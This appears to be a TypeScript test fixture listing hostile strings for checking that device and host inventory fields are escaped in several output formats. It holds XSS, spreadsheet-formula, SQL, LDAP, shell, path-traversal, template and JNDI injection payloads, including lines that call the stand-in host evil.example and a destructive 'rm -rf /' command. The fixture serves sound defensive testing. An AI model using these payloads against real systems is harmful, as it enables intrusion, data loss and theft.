/** Texts of hostile devices and hosts. Each breaks out of some format if it is inserted unescaped. */
export const hostileTexts: readonly string[] = [
  // Markup and scripts
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</textarea><iframe src=//evil.example></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css";</style>',
  '<!--#exec cmd="id"-->',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><input name=p></form>',
  // Spreadsheet formulas
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '＝1+1',
  "'=1+1",
  '=HYPERLINK("http://evil.example";"x")',
  "x;=cmd|' /C calc'!A0",
  'x|"@SUM(1+1)"',
  // Ends of lines, cells, headers and records
  'first\r\nsecond',
  'first\nsecond',
  'first\u2028second\u2029third\u0085fourth',
  'x\r\nBcc: victim@evil.example\r\n\r\nbody',
  'x\r\n.\r\nMAIL FROM:<a@evil.example>',
  'x\n<34>1 2031-01-01T00:00:00Z evil su - - - forged',
  'x|y\\|z=a]b"c\\',
  'x" ]forged[y="',
  'a,b;"c"\td',
  '"quoted",=1+1',
  'id: 1\ndata: forged\n\n',
  '{"forged":true}\n{"forged":true}',
  '# HELP forged x\nforged 1',
  // Control characters and text direction
  'before\u0000after',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202Egnp.exe\u202C',
  '\u2066hidden\u2069\u200b\ufeff',
  '\u0008\u0008\u0008rewritten\u007f',
  'half \uD800 a pair',
  '\uDC00 other half',
  'Z\u0335\u0321\u034a\u0311a\u0335\u0321lgo',
  // Other interpreters
  "'; DROP TABLE peripherals; --",
  "' OR '1'='1",
  '$$; SELECT pg_sleep(10); $$',
  '*)(uid=*))(|(uid=*',
  '$(touch /tmp/owned)`touch /tmp/owned`',
  '; rm -rf / #',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%s%n%x %00 %0d%0aX: y',
  '{{7*7}}\u0024{7*7}#{7*7}<%= 7*7 %>',
  '\u0024{jndi:ldap://evil.example/x}',
  // Names of built-in object members
  '__proto__',
  'constructor',
]

/** Maximum lengths of fields, so that texts are not refused for their length. */
export const fieldLimits = {
  hostname: 255,
  address: 64,
  osName: 120,
  osVersion: 120,
  kernel: 120,
  architecture: 32,
  vendor: 120,
  model: 120,
  chassis: 64,
  sku: 120,
  agentVersion: 64,
} as const

/** Other fields: of network interfaces, devices, errors and states. */
export const otherFields =
  'nic name|nic address|manufacturer|product|serial|configuration|error code|error message|state|acknowledgement|debug log'.split(
    '|',
  )
